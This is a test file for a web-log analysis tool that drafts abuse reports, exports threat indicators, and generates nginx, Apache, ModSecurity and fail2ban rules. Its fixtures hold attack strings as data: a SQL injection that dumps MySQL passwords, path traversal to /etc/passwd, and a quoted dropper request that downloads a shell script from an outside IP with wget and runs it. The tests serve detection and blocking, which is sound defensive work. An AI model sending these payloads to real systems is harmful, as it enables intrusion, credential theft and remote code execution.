import { existsSync } from 'node:fs'
import { dirname } from 'node:path'
import { unzipSync } from 'fflate'
import { beforeAll, describe, expect, it } from 'vitest'
import { NO_FILTER } from '../../../src/engine/columns/filter.ts'
import { NO_POLICY } from '../../../src/engine/policy/policy.ts'
import { subjects } from '../../../src/jobs/actions/incidents.ts'
import { serverRules } from '../../../src/export/server-rules/server-rules.ts'
import { jailsOf } from '../../../src/jobs/actions/jails.ts'
import { logLine } from '../../../src/jobs/actions/log-line.ts'
import { serverRulesOf } from '../../../src/jobs/actions/server-rules.ts'
import { draftOf, shareFile } from '../../../src/jobs/actions/share.ts'
import type { Questions } from '../../../src/jobs/questions.ts'
import type { ReportWish, ShareKind } from '../../../src/protocol/actions.ts'
import { HOSTILE } from '../../export/hostile.ts'
import { fileOf, installed, run } from '../../export/programs.ts'
import { questionsOf } from '../questions-of.ts'

const MODULES = '/usr/lib/apache2/modules'

/** Apache's check of its configuration with these modules and lines. */
function apache(modules: readonly string[], lines: string): ReturnType<typeof run> {
  const dir = dirname(fileOf('x', ''))
  const loads = modules.map((name) => {
    const file = name === 'security2' ? 'mod_security2' : `mod_${name}`
    return `LoadModule ${name}_module ${MODULES}/${file}.so\n`
  })
  const main = `ServerRoot ${dir}\nServerName a.example\nListen 127.0.0.1:1\nPidFile ${dir}/pid\nErrorLog ${dir}/e\n${loads.join('')}Include ${fileOf('b.conf', lines)}\n`
  return run('apache2', ['-t', '-f', fileOf('a.conf', main)])
}

const WISH: ReportWish = {
  by: 'source',
  least: 3,
  language: 'en',
  reporter: { org: 'Example Hosting', contact: 'abuse@example.org', domain: 'example.org' },
  redaction: { own: ['shop.example'], hosts: false, users: false, queries: false, others: false },
}
const JAIL = { maxretry: 3, findtime: 600, bantime: 3600, logpath: '' }

const line = (vhost: string, source: string, target: string, status: number, at: number): string =>
  `${vhost}:80 ${source} - - [21/Nov/2026:02:00:${String(at).padStart(2, '0')} +0000] "GET ${target} HTTP/1.1" ${status} 321 "-" "curl/8.0"\n`

/** Every byte of a text as an attacker may send it. */
const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')

const SQL = "/item?id=1'+UNION+SELECT+user,password+FROM+mysql.user--+-"
const TEXT = [
  ...[1, 2, 3, 4].map((at) => line('shop.example', '203.0.113.7', `${SQL}&n=${at}`, 403, at)),
  ...[5, 6].map((at) => line('shop.example', '203.0.113.9', SQL, 200, at)),
  ...[7, 8, 9].map((at) =>
    line('blog.example', '198.51.100.4', '/wp-content/../../etc/passwd', 404, at),
  ),
  ...[10, 11, 12].map((at) => line('blog.example', '192.0.2.50', '/item?id=7', 200, at)),
  ...HOSTILE.map((text, i) =>
    line('blog.example', '198.51.100.4', `/?q=${percent(text)}%00/etc/passwd`, 404, 13 + i),
  ),
].join('')

let questions: Questions
beforeAll(async () => {
  questions = await questionsOf(TEXT)
}, 60_000)

const share = (kind: ShareKind, wish = WISH) => shareFile(questions, NO_FILTER, wish, kind, 0)

describe('subjects of reports', () => {
  it('are sources with enough attacks, most first', () => {
    const found = subjects(questions, NO_FILTER, 'source', 3)
    expect(found.map(({ subject }) => subject)).toEqual(['198.51.100.4', '203.0.113.7'])
    expect(found[1]?.attacks).toBe(4)
  })
  it('are networks', () => {
    const found = subjects(questions, NO_FILTER, 'network', 3)
    expect(found.find(({ subject }) => subject === '203.0.113.0/24')).toMatchObject({
      attacks: 6,
      sources: 2,
    })
  })
  it('are sites', () => {
    const found = subjects(questions, NO_FILTER, 'vhost', 3)
    expect(found.map(({ subject }) => subject)).toEqual(['blog.example', 'shop.example'])
    expect(found[1]).toMatchObject({ attacks: 6, sources: 2 })
  })
})

describe('drafts', () => {
  it('tell a provider what, when and from where, and no name of ours', () => {
    const draft = draftOf(questions, NO_FILTER, WISH, '203.0.113.7')
    expect(draft?.subject).toBe('Abuse report: 4 attacks from 203.0.113.7')
    expect(draft?.text).toContain('2026-11-21T02:00:01.000Z 203.0.113.7 "GET /item?')
    expect(draft?.text).toContain('UNION')
    expect(draft?.text).not.toContain('shop.example')
    expect(draft?.text).toContain('abuse@example.org')
  })
  it('tell an owner whether it may have worked', () => {
    const draft = draftOf(questions, NO_FILTER, { ...WISH, by: 'vhost' }, 'shop.example')
    expect(draft?.text).toContain('shop.example was attacked 6 times from 2 sources.')
    expect(draft?.text).toMatch(/success|do not tell/)
  })
  it('speak Japanese', () => {
    const draft = draftOf(questions, NO_FILTER, { ...WISH, language: 'ja' }, '203.0.113.7')
    expect(draft?.subject).toContain('不正アクセスの報告')
  })
  it('are none for what is not there', () => {
    expect(draftOf(questions, NO_FILTER, WISH, '192.0.2.99')).toBeUndefined()
  })
})

describe('files for others', () => {
  it('zip the mails and XARF reports', async () => {
    for (const kind of ['mails', 'xarf'] as const) {
      const made = share(kind)
      const files = unzipSync(new Uint8Array(await made.blob.arrayBuffer()))
      expect(Object.keys(files)).toHaveLength(2)
      expect(made).toMatchObject({ items: 2, whole: 2 })
    }
  })
  it('make one self-contained page whose text stays text', async () => {
    const page = await share('html').blob.text()
    expect(page).toContain('Told below: 2 of 2')
    expect(page).toContain('<svg')
    const body = page.slice(page.indexOf('<body>'))
    const tags = new Set([...body.matchAll(/<\/?([a-z\d]+)/gi)].map(([, tag]) => tag))
    const known = 'body h1 h2 p table tr th td ul li section code figure figcaption svg rect html'
    expect([...tags].filter((tag) => !known.split(' ').includes(tag ?? ''))).toEqual([])
    expect(body).not.toMatch(/[\u202a-\u202e\u2066-\u2069\0]/)
  })
  it('tell what was noted only where a person says so', async () => {
    const { holdings } = questions
    const told = { star: false, labels: ['=customer 7'], status: 'done', reason: '' } as const
    holdings.policy = {
      ...NO_POLICY,
      notes: [{ ...told, kind: 'source', id: '203.0.113.7', text: 'asked <b>twice</b>' }],
    }
    const textOf = (notes: boolean, kind: ShareKind): Promise<string> => {
      const wish = { ...WISH, redaction: { ...WISH.redaction, notes } }
      return share(kind, wish).blob.text()
    }
    expect(await textOf(false, 'markdown')).not.toContain('customer')
    expect(await textOf(true, 'markdown')).toContain(
      '- Note: done, =customer 7, asked \\<b\\>twice\\</b\\>',
    )
    expect(await textOf(true, 'html')).toContain('asked &#60;b&#62;twice&#60;/b&#62;')
    delete holdings.policy
  })
  it('name sources and what droppers point at', async () => {
    const text = await share('indicators').blob.text()
    expect(text).toContain('"source","203.0.113.7","4"')
  })
  it('are JSON where they should be', async () => {
    const bundle = JSON.parse(await share('stix').blob.text()) as { objects: { type: string }[] }
    expect(bundle.objects.filter(({ type }) => type === 'indicator')).toHaveLength(2)
    const event = JSON.parse(await share('misp').blob.text()) as { Event: { Attribute: object[] } }
    expect(event.Event.Attribute).toHaveLength(2)
  })
})

describe('rules that close probed pages', () => {
  const rules = () => serverRulesOf(questions, NO_FILTER, 0)
  it('leave pages alone that ordinary requests use', () => {
    for (const { text } of rules()) expect(text).not.toContain('/item')
  })
  const of = (kind: string): string => rules().find((one) => one.kind === kind)?.text ?? ''
  it('name probed pages', () => {
    expect(of('modsecurity')).toContain('SecRule REQUEST_FILENAME "@rx ^/wp')
  })
  it.skipIf(!installed('nginx'))('are taken by nginx', () => {
    const main = `pid /tmp/spoor-pid; error_log stderr; events {} http { access_log off; server { listen 127.0.0.1:1; include ${fileOf('c.conf', of('nginx'))}; } }`
    const checked = run('nginx', ['-t', '-q', '-c', fileOf('nginx.conf', main)])
    expect(checked.code, checked.out).toBe(0)
  })
  it.skipIf(!installed('apache2'))('are taken by Apache', () => {
    const checked = apache(['mpm_event', 'authz_core', 'alias'], of('apache'))
    expect(checked.code, checked.out).toBe(0)
  })
  it.skipIf(!existsSync(`${MODULES}/mod_security2.so`))('are taken by ModSecurity', () => {
    const checked = apache(['mpm_event', 'authz_core', 'unique_id', 'security2'], of('modsecurity'))
    expect(checked.code, checked.out).toBe(0)
  })
  it('write nothing of a path that could leave its place', () => {
    const pages = [...HOSTILE, '/a"b', '/a{b}', '/$x', '/a b', '/#c', "/a'b", '/a\\b', '/a;b'].map(
      (path) => ({ path: path.startsWith('/') ? path : `/${path}`, rule: path, hits: 1 }),
    )
    for (const { text, named } of serverRules(pages, 0)) {
      const lines = text.split('\n').filter((one) => one !== '' && !one.startsWith('#'))
      expect(lines).toHaveLength(named)
      for (const one of lines)
        expect(one).toMatch(
          /^(?:location = \/[\w!%&()*+,./:=@~-]+ \{ return 403; \}|RedirectMatch 403 "\^[\w/\\-]+\$"|SecRule REQUEST_FILENAME "@rx \^[\w/\\-]+\$" "[\w:,' /-]+")$/,
        )
    }
  })
})

describe('fail2ban filters of a case', () => {
  it('are tried on the lines of the case', () => {
    const answers = jailsOf(questions, NO_FILTER, JAIL)
    expect(answers.length).toBeGreaterThan(0)
    for (const answer of answers) {
      if (answer.why !== undefined) continue
      expect(answer.caught + answer.missed).toBeGreaterThan(0)
      expect(answer.filter).toContain('[Definition]')
      expect(answer.tried).toBeGreaterThanOrEqual(answer.caught + answer.missed)
    }
  })
  it('say why there is none', () => {
    const why = jailsOf(questions, NO_FILTER, JAIL).map((answer) => answer.why)
    expect(why.every((one) => one === undefined || /^[a-z]+$/.test(one))).toBe(true)
  })
})

/** fail2ban's own log quoting the CGI dropper's line, broken over lines as a terminal shows it. */
const QUOTED = String.raw`2025-04-28 14:21:36,297 fail2ban.filter [1723]: WARNING Consider setting logencoding to appropriate encoding for this jail. Continuing to process line ignoring invalid characters: b'2025/04/28 14:21:36 [error] 2464#2464: *7393 open() "/usr/share/nginx/html/cgi-bin/mainfunction.cgi/apmcfgupload" failed (2: No such file or directory), client: 176.65.148.10, server: a.example, request: "GET /cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx0\xb4%52$c%52$ccd${'${IFS}'}/tmp;wget${'${IFS}'}http://94.26.90.205/wget.sh;sh${'${IFS}'}wget.sh HTTP/1.1", host: "a.example"\n'
`

describe('from the line of a dropper that fail2ban quotes', () => {
  it('to a filter for the log it came from, which fail2ban-regex takes', async () => {
    const own = await questionsOf(QUOTED)
    const made = jailsOf(own, NO_FILTER, { ...JAIL, maxretry: 1 }).filter(
      ({ why }) => why === undefined,
    )
    expect(made.length).toBeGreaterThan(0)
    for (const { caught, missed, wrong, jail, filter } of made) {
      expect([caught, missed, wrong]).toEqual([1, 0, 0])
      expect(jail).toContain('/var/log/nginx/error.log')
      expect(filter).toContain('/cgi\\x2dbin/mainfunction\\x2ecgi/apmcfgupload')
    }
    if (!installed('fail2ban-regex')) return
    const inner = logLine('fail2ban/quoted', QUOTED).text
    const log = fileOf('error.log', `${inner}\n`)
    const { out } = run('fail2ban-regex', [log, fileOf('spoor.conf', made[0]?.filter ?? '')])
    expect(out).toContain('Lines: 1 lines, 0 ignored, 1 matched, 0 missed')
  })
})
